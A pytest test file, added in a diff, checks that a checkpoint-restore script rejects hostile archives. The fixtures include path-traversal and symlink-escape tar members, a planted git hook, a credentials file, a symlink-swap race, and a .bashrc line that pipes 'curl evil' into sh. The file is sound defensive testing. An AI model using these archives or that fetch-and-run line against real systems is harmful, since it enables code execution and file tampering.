@@ -1,0 +1,473 @@
+"""hangar/agent/restore.py run directly with the sandbox's interpreter on scratch git repos.
+
+Each test builds a world under tmp_path: a bare ``remote`` with one commit, its clone ``repo``
+(the restore target), a ``home`` and, beside them, a ``victim`` folder that no restore may
+ever touch. Plans and archives are built here with tarfile, as a hostile checkpoint would be.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import stat
+import subprocess
+import tarfile
+import threading
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import GIT_IDENTITY, git
+
+PROJECT = Path(__file__).resolve().parents[3]
+SCRIPT = "shared/hangar/agent/restore.py"
+PYTHON = "/usr/bin/python3"
+MTIME = 1_600_000_000
+VICTIM_MTIME = 1_500_000_000
+
+Member = tuple[tarfile.TarInfo, bytes | None]
+
+
+@dataclass
+class World:
+    root: Path
+    remote: Path
+    repo: Path
+    home: Path
+    victim: Path
+
+    @property
+    def head(self) -> str:
+        return git(self.repo, "rev-parse", "HEAD")
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> World:
+    remote, seed = tmp_path / "remote.git", tmp_path / "seed"
+    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
+    git(tmp_path, "init", "-q", "-b", "main", str(seed))
+    (seed / "README.md").write_text("# app\n")
+    (seed / ".gitignore").write_text("*.log\n")
+    (seed / "docs").mkdir()
+    (seed / "docs" / "guide.md").write_text("guide\n")
+    (seed / "pkg").mkdir()
+    (seed / "pkg" / "keep.txt").write_text("keep\n")
+    # A committed link out of the repo: git checks it out as it is, and restore must never
+    # unpack anything through it.
+    (seed / "outside").symlink_to("../victim")
+    git(seed, "add", "-A")
+    git(seed, "commit", "-q", "-m", "seed")
+    git(seed, "push", "-q", str(remote), "main")
+    repo = tmp_path / "repo"
+    git(tmp_path, "clone", "-q", str(remote), str(repo))
+    home = tmp_path / "home"
+    home.mkdir()
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "secret.txt").write_text("do not touch\n")
+    (victim / "secret.txt").chmod(0o640)
+    os.utime(victim / "secret.txt", (VICTIM_MTIME, VICTIM_MTIME))
+    victim.chmod(0o750)
+    os.utime(victim, (VICTIM_MTIME, VICTIM_MTIME))
+    return World(tmp_path, remote, repo, home, victim)
+
+
+# Archives -------------------------------------------------------------------------------------
+
+
+def _info(name: str, kind: bytes, mode: int, mtime: int = MTIME) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type, info.mode, info.mtime = kind, mode, mtime
+    return info
+
+
+def file(name: str, data: bytes = b"data\n", mode: int = 0o644, mtime: int = MTIME) -> Member:
+    info = _info(name, tarfile.REGTYPE, mode, mtime)
+    info.size = len(data)
+    return info, data
+
+
+def folder(name: str, mode: int = 0o755, mtime: int = MTIME) -> Member:
+    return _info(name, tarfile.DIRTYPE, mode, mtime), None
+
+
+def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Member:
+    info = _info(name, kind, 0o777)
+    info.linkname = target
+    return info, None
+
+
+def special(name: str, kind: bytes) -> Member:
+    info = _info(name, kind, 0o644)
+    info.devmajor, info.devminor = 1, 3
+    return info, None
+
+
+def tar(members: list[Member]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for info, data in members:
+            tf.addfile(info, io.BytesIO(data) if data is not None else None)
+    return buf.getvalue()
+
+
+def tar_gz(members: list[Member]) -> tuple[bytes, str]:
+    return gzip.compress(tar(members)), "gzip"
+
+
+# Running the script ---------------------------------------------------------------------------
+
+
+def plan_and_input(world: World, parts: dict[str, tuple[bytes, str]], **plan: object) -> bytes:
+    full = {
+        "repo": str(world.repo),
+        "home": str(world.home),
+        "branch": "main",
+        "head": world.head,
+        "conversation_dirs": [".claude/projects"],
+        "parts": [{"name": n, "size": len(d), "compression": c} for n, (d, c) in parts.items()],
+    }
+    full.update(plan)
+    return json.dumps(full).encode() + b"\n" + b"".join(d for d, _ in parts.values())
+
+
+def environment(world: World) -> dict[str, str]:
+    return {**os.environ, **GIT_IDENTITY, "HOME": str(world.home), "GIT_CONFIG_NOSYSTEM": "1"}
+
+
+def answer_of(stdout: bytes, returncode: int) -> dict[str, object]:
+    lines = stdout.decode().splitlines()
+    assert len(lines) == 1, stdout
+    answer: dict[str, object] = json.loads(lines[0])
+    assert returncode == (0 if answer["ok"] else 3), answer
+    return answer
+
+
+def restore(world: World, parts: dict[str, tuple[bytes, str]], **plan: object) -> dict[str, object]:
+    proc = subprocess.run(
+        [PYTHON, "-I", "-S", SCRIPT],
+        input=plan_and_input(world, parts, **plan),
+        capture_output=True,
+        cwd=PROJECT,
+        env=environment(world),
+        timeout=120,
+    )
+    return answer_of(proc.stdout, proc.returncode)
+
+
+def snapshot(top: Path, *, times: bool) -> dict[str, tuple[object, ...]]:
+    """Every path beneath ``top`` (itself included, .git left out) with its kind, mode, content
+    or link target, and, when ``times``, its mtime."""
+    out: dict[str, tuple[object, ...]] = {}
+    for dirpath, dirnames, filenames in os.walk(top):
+        dirnames[:] = [d for d in dirnames if d != ".git"]
+        for name in [".", *dirnames, *filenames]:
+            path = Path(dirpath, name)
+            st = path.lstat()
+            if stat.S_ISLNK(st.st_mode):
+                body: object = os.readlink(path)
+            elif stat.S_ISREG(st.st_mode):
+                body = path.read_bytes()
+            else:
+                body = None
+            entry = (stat.S_IFMT(st.st_mode), stat.S_IMODE(st.st_mode), body)
+            out[str(path.relative_to(top))] = (*entry, st.st_mtime_ns) if times else entry
+    return out
+
+
+# The happy path -------------------------------------------------------------------------------
+
+
+def checkpoint_of_a_session(world: World) -> tuple[Path, dict[str, tuple[bytes, str]]]:
+    """A second clone where the agent worked: one unpushed commit, staged and unstaged edits,
+    a staged new file, a force-added ignored file. Returns it and its git parts."""
+    work = world.root / "work"
+    git(world.root, "clone", "-q", str(world.remote), str(work))
+    (work / "feature.py").write_text("def feature(): return 1\n")
+    git(work, "add", "feature.py")
+    git(work, "commit", "-q", "-m", "add feature")
+    (work / "README.md").write_text("# app\nstaged line\n")
+    (work / "added.txt").write_text("new and staged\n")
+    (work / "debug.log").write_text("ignored, yet force-added\n")
+    git(work, "add", "README.md", "added.txt")
+    git(work, "add", "-f", "debug.log")
+    (work / "README.md").write_text("# app\nstaged line\nunstaged line\n")
+    (work / "docs" / "guide.md").write_text("guide, edited but not staged\n")
+    git(work, "update-ref", "refs/hangar/checkpoint", "HEAD")
+    git(work, "bundle", "create", "-q", str(world.root / "repo.bundle"),
+        "refs/hangar/checkpoint", "--not", "origin/main")  # fmt: skip
+    diff = ["--binary", "--no-ext-diff", "--no-color", "--no-renames"]
+    staged = subprocess.run(["git", "-C", str(work), "diff", "--cached", *diff, "HEAD"],
+                            capture_output=True, check=True).stdout  # fmt: skip
+    wip = subprocess.run(["git", "-C", str(work), "diff", *diff, "HEAD"],
+                         capture_output=True, check=True).stdout  # fmt: skip
+    bundle = (world.root / "repo.bundle").read_bytes()
+    parts = {"repo.bundle": (bundle, "none"), "staged.patch": (staged, "none"),
+             "wip.patch": (wip, "none")}  # fmt: skip
+    return work, parts
+
+
+def test_a_checkpoint_restores_commits_index_working_tree_untracked_files_and_conversation(
+    world: World,
+) -> None:
+    work, parts = checkpoint_of_a_session(world)
+    untracked = [
+        folder("notes", mode=0o750, mtime=MTIME + 1),
+        file("notes/todo.txt", b"todo\n", mode=0o640, mtime=MTIME + 2),
+        link("notes/latest", "todo.txt"),
+        link("notes/readme", "../README.md"),  # leading .. that stays inside is fine
+        link("guide", "docs/guide.md"),
+        file("run.sh", b"#!/bin/sh\n", mode=0o755),
+    ]
+    conversation = [
+        folder(".claude/projects"),
+        folder(".claude/projects/-workspace-app", mode=0o700),
+        file(".claude/projects/-workspace-app/conv.jsonl", b'{"role": "user"}\n', mode=0o600),
+    ]
+    parts["untracked.tar.gz"] = tar_gz(untracked)
+    parts["agent.tar.gz"] = tar_gz(conversation)
+
+    answer = restore(world, parts, head=git(work, "rev-parse", "HEAD"))
+
+    assert answer == {"ok": True}
+    repo = world.repo
+    assert git(repo, "log", "-1", "--format=%s") == "add feature"
+    assert git(repo, "rev-parse", "--abbrev-ref", "HEAD") == "main"
+    for args in (["diff", "--cached", "--binary", "HEAD"], ["diff", "--binary", "HEAD"],
+                 ["status", "--porcelain=v1"]):  # fmt: skip
+        assert git(repo, *args) == git(work, *args), args
+    assert "A  debug.log" in git(repo, "status", "--porcelain=v1").splitlines()
+    assert (repo / "README.md").read_text() == "# app\nstaged line\nunstaged line\n"
+    assert git(repo, "show", ":README.md") == "# app\nstaged line"
+
+    notes = repo / "notes"
+    assert stat.S_IMODE(notes.stat().st_mode) == 0o750 and notes.stat().st_mtime == MTIME + 1
+    todo = (notes / "todo.txt").stat()
+    assert (notes / "todo.txt").read_bytes() == b"todo\n"
+    assert stat.S_IMODE(todo.st_mode) == 0o640 and todo.st_mtime == MTIME + 2
+    assert stat.S_IMODE((repo / "run.sh").stat().st_mode) == 0o755
+    assert os.readlink(notes / "latest") == "todo.txt"
+    assert (notes / "latest").lstat().st_mtime == MTIME
+    assert (notes / "readme").read_text() == (repo / "README.md").read_text()
+    assert (repo / "guide").read_text() == "guide, edited but not staged\n"
+    conv = world.home / ".claude/projects/-workspace-app/conv.jsonl"
+    assert conv.read_bytes() == b'{"role": "user"}\n' and stat.S_IMODE(conv.stat().st_mode) == 0o600
+    assert not [p for p in repo.rglob(".hangar-restore-*")]
+
+
+def test_a_zstd_untracked_archive_restores(world: World) -> None:
+    data = tar([file("notes/todo.txt", b"zstd\n", mode=0o600)])
+    packed = subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, check=True)
+    answer = restore(world, {"untracked.tar.zst": (packed.stdout, "zstd")})
+    assert answer == {"ok": True}
+    assert (world.repo / "notes/todo.txt").read_bytes() == b"zstd\n"
+    assert stat.S_IMODE((world.repo / "notes/todo.txt").stat().st_mode) == 0o600
+
+
+# Refusals -------------------------------------------------------------------------------------
+
+VICTIM = "../victim"
+UNTRACKED_ESCAPES: dict[str, tuple[list[Member], str]] = {
+    "absolute path": ([file("/{victim}/absolute.txt")], "not a safe relative path"),
+    "dot-dot path": ([file("notes/../../victim/dotdot.txt")], "not a safe relative path"),
+    "hard link": ([link("hard", VICTIM + "/secret.txt", tarfile.LNKTYPE)], "hard link"),
+    "character device": ([special("dev", tarfile.CHRTYPE)], "special file"),
+    "fifo": ([special("fifo", tarfile.FIFOTYPE)], "special file"),
+    "link that leads out": ([link("out", VICTIM)], "leads out"),
+    "absolute link": ([link("out", "/{victim}")], "not relative"),
+    "link chain": ([link("d1/s", ".."), link("t", "d1/s/../victim")], ".. after a folder"),
+    "folder over an earlier link": ([link("q", "docs"), folder("q", mode=0o777)], "earlier link"),
+    "file over an earlier link": ([link("q", "docs"), file("q")], "earlier link"),
+    "member through an archive link": (
+        [link("inner", "docs"), file("inner/escaped.txt")],
+        "passes through the link",
+    ),
+    "member through a committed link": ([file("outside/escaped.txt")], "link 'outside' on disk"),
+    "folder at a committed link": ([folder("outside", mode=0o777)], "link 'outside' on disk"),
+    "git hook": ([file(".git/hooks/post-checkout", b"#!/bin/sh\n", 0o755)], "inside .git"),
+    "link into .git": ([link("hooks", ".git/hooks")], "inside .git"),
+}
+
+
+def _resolve(members: list[Member], world: World) -> list[Member]:
+    for info, _ in members:
+        info.name = info.name.replace("/{victim}", str(world.victim))
+        info.linkname = info.linkname.replace("/{victim}", str(world.victim))
+    return members
+
+
+def assert_nothing_changed(world: World, before: dict[str, object]) -> None:
+    assert snapshot(world.victim, times=True) == before["victim"]
+    assert snapshot(world.repo, times=False) == before["repo"]
+    assert snapshot(world.home, times=False) == before["home"]
+    assert sorted(os.listdir(world.root)) == before["root"]
+
+
+def everything(world: World) -> dict[str, object]:
+    return {
+        "victim": snapshot(world.victim, times=True),
+        "repo": snapshot(world.repo, times=False),
+        "home": snapshot(world.home, times=False),
+        "root": sorted(os.listdir(world.root)),
+    }
+
+
+@pytest.mark.parametrize("case", UNTRACKED_ESCAPES, ids=list(UNTRACKED_ESCAPES))
+def test_an_untracked_archive_that_could_escape_or_reach_git_is_refused_and_nothing_is_written(
+    world: World, case: str
+) -> None:
+    members, reason = UNTRACKED_ESCAPES[case]
+    before = everything(world)
+    hostile = [file("harmless.txt"), *_resolve(members, world)]
+    agent = tar_gz([folder(".claude/projects"), file(".claude/projects/conv.jsonl")])
+
+    answer = restore(world, {"untracked.tar.gz": tar_gz(hostile), "agent.tar.gz": agent})
+
+    assert answer["ok"] is False and answer["code"] == "unsafe_archive", answer
+    assert reason in str(answer["error"])
+    assert_nothing_changed(world, before)
+
+
+AGENT_ESCAPES: dict[str, tuple[list[Member], list[str] | None]] = {
+    "shell profile": ([file(".bashrc", b"curl evil | sh\n")], [".claude/projects"]),
+    "credentials beside the conversations": (
+        [folder(".claude"), file(".claude/.credentials.json")],
+        [".claude/projects"],
+    ),
+    "a file named like the conversation folder": ([file(".claude/projects")], [".claude/projects"]),
+    "a link out of the conversation folders": (
+        [folder(".claude/projects"), link(".claude/projects/x", "../../.bashrc")],
+        [".claude/projects"],
+    ),
+    "a plan without conversation folders": ([file(".claude/projects/conv.jsonl")], None),
+    "conversation folders that are not relative": ([file("etc/x")], ["/etc", "../x", "."]),
+}
+
+
+@pytest.mark.parametrize("case", AGENT_ESCAPES, ids=list(AGENT_ESCAPES))
+def test_an_agent_archive_member_outside_the_conversation_folders_is_refused(
+    world: World, case: str
+) -> None:
+    members, dirs = AGENT_ESCAPES[case]
+    before = everything(world)
+    hostile = tar_gz([folder(".claude/projects"), file(".claude/projects/ok.jsonl"), *members])
+    plan = {"conversation_dirs": dirs} if dirs is not None else {}
+    parts = {"untracked.tar.gz": tar_gz([file("harmless.txt")]), "agent.tar.gz": hostile}
+    if dirs is None:
+        full = json.loads(plan_and_input(world, parts).split(b"\n", 1)[0])
+        del full["conversation_dirs"]
+        plan = full
+
+    answer = restore(world, parts, **plan)
+
+    assert answer["ok"] is False and answer["code"] == "unsafe_archive", answer
+    assert "outside the conversation folders" in str(answer["error"])
+    assert_nothing_changed(world, before)
+
+
+def test_a_file_member_where_a_folder_is_on_disk_fails_before_anything_is_unpacked(
+    world: World,
+) -> None:
+    before = everything(world)
+    answer = restore(world, {"untracked.tar.gz": tar_gz([file("harmless.txt"), file("docs")])})
+    assert answer["ok"] is False and answer["code"] == "restore_failed", answer
+    assert "folder on disk" in str(answer["error"])
+    assert_nothing_changed(world, before)
+
+
+# Races and git failures -----------------------------------------------------------------------
+
+
+def test_a_folder_swapped_for_a_link_mid_restore_never_lets_a_write_out(world: World) -> None:
+    """Another process keeps replacing the committed ``pkg`` folder with a link to the victim
+    while 3,000 files are unpacked into it: whatever the answer, the victim is untouched."""
+    members = [file("aaa-started.txt")]
+    members += [file(f"pkg/sub{i % 10}/f{i:04d}.txt", b"x" * 64) for i in range(3000)]
+    before = snapshot(world.victim, times=True)
+    proc = subprocess.Popen(
+        [PYTHON, "-I", "-S", SCRIPT],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        cwd=PROJECT,
+        env=environment(world),
+    )
+    stop = threading.Event()
+    swaps = 0
+    pkg, away, lnk = world.repo / "pkg", world.repo / "pkg.away", world.repo / "pkg.link"
+
+    def swap() -> None:
+        nonlocal swaps
+        while not stop.is_set():
+            for step in (
+                lambda: os.rename(pkg, away),
+                lambda: os.symlink(VICTIM, lnk),
+                lambda: os.rename(lnk, pkg),
+                lambda: os.unlink(pkg) if pkg.is_symlink() else None,
+                lambda: os.rename(away, pkg),
+            ):
+                try:
+                    step()
+                except OSError:
+                    pass
+            swaps += 1
+
+    swapper = threading.Thread(target=swap)
+    try:
+        assert proc.stdin is not None
+        feeder = threading.Thread(
+            target=lambda: proc.communicate(plan_and_input(world, {"untracked.tar.gz": tar_gz(members)}), timeout=120)
+        )
+        # Start swapping once the git steps are over and unpacking has begun: a race with
+        # git's own checkout is not what this test is about.
+        outputs: list[tuple[bytes, bytes]] = []
+        feeder = threading.Thread(
+            target=lambda: outputs.append(
+                proc.communicate(
+                    plan_and_input(world, {"untracked.tar.gz": tar_gz(members)}), timeout=120
+                )
+            )
+        )
+        feeder.start()
+        deadline = time.monotonic() + 60
+        while not (world.repo / "aaa-started.txt").exists() and proc.poll() is None:
+            assert time.monotonic() < deadline, "the restore never began unpacking"
+            time.sleep(0.001)
+        swapper.start()
+        feeder.join(timeout=120)
+        assert not feeder.is_alive()
+    finally:
+        stop.set()
+        if swapper.is_alive():
+            swapper.join(timeout=10)
+        if proc.poll() is None:
+            proc.kill()
+    answer = answer_of(outputs[0][0], proc.returncode)
+    assert answer["ok"] is True or answer["code"] in ("unsafe_archive", "restore_failed"), answer
+    assert swaps > 0
+    assert snapshot(world.victim, times=True) == before
+    assert not list(world.victim.rglob("f*.txt"))
+
+
+def test_a_bundle_whose_prerequisite_is_missing_fails_with_gits_reason(world: World) -> None:
+    work = world.root / "work"
+    git(world.root, "clone", "-q", str(world.remote), str(work))
+    for name in ("one", "two"):
+        (work / name).write_text(name)
+        git(work, "add", name)
+        git(work, "commit", "-q", "-m", name)
+    git(work, "update-ref", "refs/hangar/checkpoint", "HEAD")
+    bundle = world.root / "repo.bundle"
+    # "one" is the prerequisite, and the target repo has never seen it.
+    git(work, "bundle", "create", "-q", str(bundle), "refs/hangar/checkpoint", "--not", "HEAD~1")
+
+    answer = restore(world, {"repo.bundle": (bundle.read_bytes(), "none")},
+                     head=git(work, "rev-parse", "HEAD"))  # fmt: skip
+
+    assert answer["ok"] is False and answer["code"] == "restore_failed", answer
+    assert answer["step"] == "bundle"
+    assert "prerequisite" in str(answer["error"])
